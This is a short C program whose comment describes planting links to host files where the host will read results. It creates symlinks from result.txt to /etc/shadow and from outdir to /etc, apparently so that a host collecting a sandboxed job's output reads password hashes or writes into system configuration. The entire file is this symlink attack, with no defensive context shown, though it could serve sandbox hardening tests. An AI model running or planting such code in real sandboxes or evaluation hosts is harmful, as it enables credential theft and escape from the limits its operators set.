/* plant links to host files where the host will read results */
#include <stdio.h>
#include <unistd.h>
int main(void)
{
    if (symlink("/etc/shadow", "result.txt") < 0) { perror("symlink"); return 2; }
    if (symlink("/etc", "outdir") < 0) { perror("symlink"); return 2; }
    puts("planted");
    return 0;
}
